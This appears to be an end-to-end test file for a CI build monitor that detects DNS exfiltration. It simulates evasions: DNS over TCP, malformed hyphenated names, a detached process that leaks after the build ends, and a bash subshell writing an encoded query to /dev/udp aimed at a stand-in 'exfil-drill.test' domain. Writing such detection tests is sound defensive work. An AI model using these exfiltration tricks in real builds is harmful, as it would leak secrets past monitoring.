// Ways a build script might slip past: DNS over TCP, a name no hostname parser accepts, and a
// detached process that leaks after the build's command has returned. Real bpftrace, agent and collector.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import net from 'node:net';
import { fileURLToPath } from 'node:url';
import { startDnsServer, type DnsServer } from '../support/dns-server.js';
import { getJson, runTracked, startAgent, startCollector, type Daemon } from '../support/telltale-procs.js';

const SEND = fileURLToPath(new URL('./send-query.mjs', import.meta.url));
const LEAK = 'mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpi2dk.nrxw4zlbmjrwmzjq.exfil-drill.test';

describe('evasion', () => {
  let dir: string;
  let dns: DnsServer;
  let tcp: net.Server;
  const tcpBytes: Buffer[] = [];
  let collector: Daemon & { httpUrl: string; grpcAddress: string };
  let agent: Daemon;

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'telltale-evasion-'));
    dns = await startDnsServer({ host: '127.0.0.1', port: 0 });
    // A TCP listener on the same port number: DNS over TCP to the test's own server.
    tcp = net.createServer((s) => s.on('data', (b) => tcpBytes.push(b)));
    await new Promise<void>((r) => tcp.listen(dns.port, '127.0.0.1', r));
    collector = await startCollector(join(dir, 'collector'));
    agent = await startAgent(join(dir, 'agent'), collector.grpcAddress, [dns.port]);
  });
  afterAll(async () => {
    await agent?.stop();
    await collector?.stop();
    await dns?.close();
    tcp?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  const alertsOf = async (pipeline: string) =>
    (await getJson<{ alerts: { kind: string; qname: string; buildId: string }[] }>(`${collector.httpUrl}/api/alerts?pipeline=${pipeline}`)).alerts;

  it('judges a query sent over TCP', async () => {
    const r = await runTracked(['--data-dir', join(dir, 'agent'), '--pipeline', 'e2e/tcp', '--fail-on-alert', '--',
      process.execPath, SEND, 'tcp', String(dns.port), LEAK], process.env);
    expect(Buffer.concat(tcpBytes).length).toBeGreaterThan(LEAK.length);
    expect(r.code, r.output).toBe(3);
    expect((await alertsOf('e2e/tcp')).map((a) => [a.kind, a.qname])).toContainEqual(['encoded_dns_label', LEAK]);
  });

  it('judges a name whose labels start or end with a hyphen (no valid hostname, still a domain)', async () => {
    const hyphened = `-${LEAK.replace('.nrxw4zlbmjrwmzjq.', '.nrxw4zlbmjrwmzjq-.')}`;
    const r = await runTracked(['--data-dir', join(dir, 'agent'), '--pipeline', 'e2e/hyphen', '--fail-on-alert', '--',
      process.execPath, SEND, 'udp', String(dns.port), hyphened], process.env);
    expect(r.code, r.output).toBe(3);
    expect((await alertsOf('e2e/hyphen')).map((a) => [a.kind, a.qname])).toContainEqual(['encoded_dns_label', hyphened]);
  });

  it('fails the gate when a process outlives the build, and still reports what it leaks later', async () => {
    const report = join(dir, 'linger.json');
    const r = await runTracked(['--data-dir', join(dir, 'agent'), '--pipeline', 'e2e/linger', '--fail-on-alert', '--report', report, '--',
      'sh', '-c', `${process.execPath} ${SEND} udp ${dns.port} ${LEAK} 1500 >/dev/null 2>&1 &`], process.env);
    const verdict = JSON.parse(readFileSync(report, 'utf8')) as { buildId: string; lingeringProcesses: number; alerts: unknown[] };
    expect(verdict.alerts).toEqual([]);
    expect(verdict.lingeringProcesses).toBeGreaterThanOrEqual(1);
    expect(r.code, r.output).toBe(4);
    const deadline = Date.now() + 10_000;
    let alerts = await alertsOf('e2e/linger');
    while (alerts.length === 0 && Date.now() < deadline) {
      await new Promise((res) => setTimeout(res, 250));
      alerts = await alertsOf('e2e/linger');
    }
    expect(alerts.map((a) => [a.kind, a.buildId])).toContainEqual(['encoded_dns_label', verdict.buildId]);
  });

  it('does not fail the gate on a clean build that forks many short children across CPUs', async () => {
    // The command's exit can be read before children's exits written on another CPU; the
    // agent drains every CPU's buffer before it counts processes that outlived the command.
    for (let i = 0; i < 3; i++) {
      const report = join(dir, `parallel-${i}.json`);
      const r = await runTracked(['--data-dir', join(dir, 'agent'), '--pipeline', 'e2e/parallel', '--fail-on-alert', '--report', report, '--',
        'sh', '-c', 'for i in $(seq 64); do /bin/true & done; wait'], process.env);
      const verdict = JSON.parse(readFileSync(report, 'utf8')) as { lingeringProcesses: number; complete: boolean; lostEvents: number };
      expect(verdict, r.output).toMatchObject({ lingeringProcesses: 0, complete: true, lostEvents: 0 });
      expect(r.code, r.output).toBe(0);
    }
  });

  it('catches a leak from a forked subshell that never execs (bash /dev/udp)', async () => {
    const parts = [Buffer.from([0x51, 0x52, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0])];
    for (const l of LEAK.split('.')) parts.push(Buffer.from([l.length]), Buffer.from(l));
    parts.push(Buffer.from([0, 0, 1, 0, 1]));
    const escaped = [...Buffer.concat(parts)].map((b) => `\\x${b.toString(16).padStart(2, '0')}`).join('');
    // The subshell is a fork of bash: it opens, connects and writes the UDP socket itself.
    const script = `( printf '%b' '${escaped}' > /dev/udp/127.0.0.1/${dns.port} ); wait`;
    const r = await runTracked(['--data-dir', join(dir, 'agent'), '--pipeline', 'e2e/subshell', '--', 'bash', '-c', script], process.env);
    expect(r.code, r.output).toBe(0);
    expect(dns.queries.some((q) => q.name === LEAK)).toBe(true);
    const alerts = await alertsOf('e2e/subshell');
    expect(alerts.map((a) => [a.kind, a.qname]), r.output).toContainEqual(['encoded_dns_label', LEAK]);
  });
});
